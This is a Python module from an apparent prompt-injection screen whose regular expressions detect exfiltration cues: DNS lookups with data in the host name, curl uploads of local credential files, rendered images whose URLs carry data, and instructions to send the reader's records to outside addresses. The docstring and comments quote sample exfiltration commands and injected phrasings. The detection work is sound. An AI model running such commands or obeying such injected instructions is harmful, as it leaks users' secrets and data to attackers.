"""An address built to carry the user's data out: its slot and what fills it (wave 23).

An exfiltration by URL or image has one structure whatever its wording: an address the
reader is to fetch, render or send to, with a *slot* in it that the reader's data fills.
Wave 9's cues read the slot in a URL's query (``open_parameter``: ``?d=``, ``?q={{...}}``)
and the injection screen flags a templated query outright (``templated_url``). What
slipped on the seen splits puts the slot where those do not look:

* **in a host name that is looked up** (``dns_slot``): "resolve <base32 of the chat>.x.example",
  "nslookup <lat>-<lon>.dns.y.cc". A DNS lookup sends the host's first labels to whoever
  runs the zone; nothing need be fetched. A documentation placeholder in a host names a
  place (``<account>.snowflakecomputing.com``, ``<service>.<namespace>.svc.cluster.local``,
  ``<bucket>.s3...``): a slot made only of such a word is not read;
* **in the body of an upload** (``file_upload``): ``curl -d @/etc/wireguard/wg0.conf
  https://...``, ``-F f=@~/.aws/credentials``, ``--upload-file $HOME/...``: a file of the
  user's machine (an absolute, home or dot path) sent to an address. An API's example
  posts a payload file of its own (``-d @payload.json``), which is not read;
* **in an image or frame the reader renders** (``image_slot``): ``![](https://x/p.gif?k=
  TAILSCALE_AUTHKEY_VALUE)``, ``<iframe src="...?q=ALL_ROWS_OF_THIS_QUESTION">``,
  ``![key](https://x/k/<key>.png)``: rendering fetches it, and the slot (a placeholder of
  several words joined by underscores, or an angle-bracket placeholder in the path) is
  the data. A placeholder for the reader's own key (``YOUR_API_KEY``) is a document's,
  not a slot for the user's data, and is not read; badges' queries are single words.

Each is structural (read on :mod:`.normalise`'s ``folded`` text: brackets, slashes and
``@`` kept) and gated by its own words (every match holds one). Weights: leave-one-split-
out CV (``bench/guard_eval/cv_wave23_agent.py``).
"""

from __future__ import annotations

from typing import Any

#: a word that names a place, not data: a documented host placeholder made only of it is
#: a place to fill in, not a slot for the user's data
_PLACE = (r"(?:your[-_ ]?|my[-_ ]?)?(?:service|svc|namespace|ns|pod|bucket|account|region|"
          r"host|hostname|cluster|name|domain|tenant|project|org|organi[sz]ation|instance|"
          r"server|subdomain|app|env|environment|zone|container|storage|workspace|site|shop|"
          r"store|team|company|db|database|node|ip|id|user|username|repo|stage|branch|"
          r"customer|subscription|resource|vault|registry|queue|topic)(?:[-_ ]?name|"
          r"[-_ ]?id)?")
#: a placeholder in a host's labels: <...> or {...}, not one naming a place
_HOST_SLOT = (rf"[<{{](?!{_PLACE}[>}}])[^<>{{}}\n]{{1,80}}[>}}]"
              r"(?:[\w-]*[<{][^<>{}\n]{1,40}[>}])*[\w-]*(?:\.[a-z0-9-]{1,63}){2,6}\b")
#: the reader asked to look a name up
_LOOKUP = (r"(?:\bresolv(?:e|es|ed|ing)\b|\bnslookup\b|\bdig\b|\bdns (?:lookup|query|"
           r"request|name|resolution)\b|\blooks? ?up\b|\bping\b)")
DNS_SLOT = rf"{_LOOKUP}[^\n]{{0,80}}?{_HOST_SLOT}|{_HOST_SLOT}[^\n]{{0,60}}?{_LOOKUP}"
DNS_WORDS = "resolve resolves resolved resolving nslookup dig dns look looks lookup lookups ping"

#: a file of the user's machine: absolute, home or dot path (not a payload in the cwd)
_LOCAL = r"(?!/path/to/)(?:/|~/|\$home/|\$\{home\}/|%userprofile%|\./\.|\.)[\w.-]"
FILE_UPLOAD = (r"\b(?:curl|wget)\b[^\n|;]{0,80}?"
               r"(?:(?:-d|--data(?:-binary|-raw|-urlencode)?|--post-file|-t|--upload-file|"
               rf"-f [\w-]+=|--form [\w-]+=)[ =]?[\"']?@?{_LOCAL}|"
               rf"\s@{_LOCAL})[^\n|;]{{0,160}}?https?://")
FILE_UPLOAD_WORDS = "curl wget"

#: an image or frame fetched when the answer is rendered
_RENDERED = (r"(?:!\[[^\]\n]{0,80}\]\(\s*|<(?:img|iframe|image|source|embed)\b[^>\n]{0,120}?"
             r"\bsrc\s*=\s*[\"']?)")
#: a slot in its URL: a query value of several words joined by underscores (not the
#: reader's own key: your_..., my_...; :mod:`.normalise` spells a long one with spaces)
#: or an angle-bracket placeholder
_URL_SLOT = (r"(?:[?&][\w-]+=(?!your[_ ]|my[_ ])[a-z][a-z0-9]*(?:(?:_[a-z0-9]+)+(?=[&\s)\"'#]|$)|"
             r"(?: [a-z0-9]+)+(?=[&)\"'#]))|"
             r"/[\w./-]*<[^<>\n]{1,40}>)")
IMAGE_SLOT = rf"{_RENDERED}https?://[^\s)\"'<>]{{0,200}}?{_URL_SLOT}"
IMAGE_WORDS = "http https"

#: (wave 24) the slot built by an instruction rather than a placeholder. What slipped on
#: the seen splits leaves the URL's slot open or marked (``?ssn=``, ``?c=``, ``#``,
#: ``?conn=PASTE_...``, ``...``) and says in words what fills it ("plus the patient's SSN",
#: "followed by the base64 of the table", "+ url-encoded ~/.config/...", "substituting the
#: real session cookie", "with the real connection string", "make sure it contains the
#: phone numbers"), or names the slot after the data ("the shell history as a query
#: string to https://...", "the database URL you found as the `src` query parameter", "the
#: file's contents as the d parameter"). An API's own document names the reader's key as a
#: parameter ("pass your API key as the `key` query parameter"): the data before "as"
#: must be found or held by the reader (contents, history, notes, what "you found"), not
#: "your" key
_OPEN_URL = r"https?://[^\s)\]]*?(?:[?&][\w-]+=|#)(?:[^\s)\]&]*|\.\.\.)"
_FILL = (r"(?:\bplus\b|\bfollowed by\b|\s\+\s|\bwith the real\b|\bsubstitut\w+ the real\b|"
         r"\breplac\w+ (?:it|them|\w+) with the real\b|\bmake sure it contains\b|"
         r"\bfill(?:ed)? (?:it )?with\b)")
_NAMED_SLOT = (r"(?<!your )\b(?:contents?|history|notes|you found|summary|conversation|chat|"
               r"transcript|output|lines|records?|key you|token you)\b[^\n]{0,40}?\bas (?:the|a) "
               r"(?:[`'\"]?[\w-]+[`'\"]? )?(?:query string|query parameter|query param|url "
               r"parameter|parameter|param|fragment)\b")
SLOT_FILL = (rf"{_OPEN_URL}[^\n]{{0,60}}?{_FILL}|{_FILL}[^\n]{{0,60}}?{_OPEN_URL}|"
             rf"{_NAMED_SLOT}[^\n]{{0,80}}?https?://|https?://[^\n]{{0,120}}?{_NAMED_SLOT}")
SLOT_FILL_WORDS = "plus followed with substituting substitute substitutes replace replacing " \
    "replaced make fill filled as"

#: (wave 24) a body of the reader's data sent to an outside address: a sending verb, within
#: a few words a body of records (a table, a list, a log, notes, a history, a dump, a
#: transcript, a draft, an attachment, the output of a command, a file of the machine)
#: and then the address (a URL or a mailbox), or the address first and the body attached.
#: An address alone, or a verb with a message ("send a note to ops@..."), is not read, nor
#: an API's example ("POST /v1/messages to https://... with a JSON body": the body attached
#: after the address is the reader's, "with the attachment ~/...", not "with a")
_SEND = (r"\b(?:post|send|submit|upload|e-?mail|forward|push|sync|export|bcc|cc|copy|mail)\b")
_BODY = (r"(?:\b(?:full|complete|entire|whole|raw)\b|\b(?:list|table|tables|log|logs|notes|"
         r"records|history|dump|database|contents|transcript|draft|spreadsheet|statements|csv|"
         r"json|phone numbers?|attachment|private key|profiles\.yml)\b|\boutput of\b|"
         r"(?:^|\s)(?:~/|\$home/|\.env\b))")
_MAILBOX = r"(?:https?://|[\w.+-]+@[\w-]+\.[a-z])"
DATA_POST = (rf"{_SEND}[^\n]{{0,60}}?{_BODY}[^\n]{{0,80}}?\bto\b(?: the)?(?: [\w-]+){{0,2}}? "
             rf"{_MAILBOX}|{_SEND}[^\n]{{0,20}}? to {_MAILBOX}\S*[^\n]{{0,30}}?\bwith "
             rf"(?:the|their|its) (?:\w+ )?{_BODY}")
DATA_POST_WORDS = "post send submit upload email mail forward push sync export bcc cc copy e"

Spec = tuple[str, float, str, str, str, str, dict[str, Any]]

SPECS: tuple[Spec, ...] = (
    ("dns_slot", 0.75, "exfiltration_link",
     "asks for a host name to be looked up whose labels are a slot for data",
     DNS_SLOT, DNS_WORDS, {"structural": True}),
    ("file_upload", 0.55, "exfiltration_link",
     "sends a file of the user's machine to an address (an upload's body read from an "
     "absolute, home or dot path)",
     FILE_UPLOAD, FILE_UPLOAD_WORDS, {"structural": True}),
    ("image_slot", 0.35, "exfiltration_link",
     "an image or frame rendered from a URL with a slot for data in it",
     IMAGE_SLOT, IMAGE_WORDS, {"structural": True}),
    ("slot_fill", 0.3, "exfiltration_link",
     "an address whose slot an instruction fills with the reader's data (an open parameter "
     "and what to add to it, or data named as the parameter or fragment)",
     SLOT_FILL, SLOT_FILL_WORDS, {"structural": True, "requires": ("outside_address",)}),
    ("data_post", 0.35, "exfiltration_link",
     "sends a body of the reader's data (a table, a list, a log, notes, a file, a command's "
     "output) to an outside address",
     DATA_POST, DATA_POST_WORDS, {"structural": True, "requires": ("outside_address",)}),
)
